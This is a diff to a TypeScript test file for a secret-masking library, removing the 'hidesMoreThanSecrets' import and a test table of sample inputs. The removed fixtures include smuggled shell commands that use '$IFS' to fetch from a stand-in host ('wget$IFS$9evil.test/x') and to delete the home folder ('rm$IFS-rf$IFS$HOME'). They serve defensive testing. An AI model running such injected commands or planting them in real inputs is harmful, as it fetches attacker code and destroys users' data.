@@ -5,7 +5,6 @@ import { projectDir } from "#lib/platform/project";
 import {
   createMasker,
   findSecrets,
-  hidesMoreThanSecrets,
   holdsSecret,
   linesHoldSecret,
   maskDeep,
@@ -218,24 +217,6 @@ describe("secrets in data", () => {
       passphrase: maskMark,
       matched: ["password", "minimum"],
     });
-  });
-
-  it.each([
-    ["a token", { command: "TOKEN=aB3dE5fG7h make build" }, false],
-    ["an address", { url: "https://x.test/?token=aB3dE5fG7h&then=make" }, false],
-    ["no secret", { command: "rm -rf ./build; make" }, false],
-    ["a command behind it", { command: "TOKEN=aB3dE5fG7h;wget$IFS$9evil.test/x make" }, true],
-    [
-      "a command in a user",
-      { command: "curl -u me:x1;wget$IFS$9evil.test/x https://ok.test" },
-      true,
-    ],
-    ["a removal", { command: "make DB_PASSWORD=abc123;rm$IFS-rf$IFS$HOME" }, true],
-    ["a sentence", { password: "delete all files in the home folder now" }, true],
-    ["what is too deep", { deep: JSON.parse(`${"[".repeat(210)}"rm"${"]".repeat(210)}`) }, true],
-    ["a key", { text: planted.at(-1)?.line }, true],
-  ])("tells whether masks would hide more than secrets: %s", (_, data, hides) => {
-    expect(hidesMoreThanSecrets(data)).toBe(hides);
   });
 
   it("keeps nothing of data that is nested deeper than anybody writes", () => {
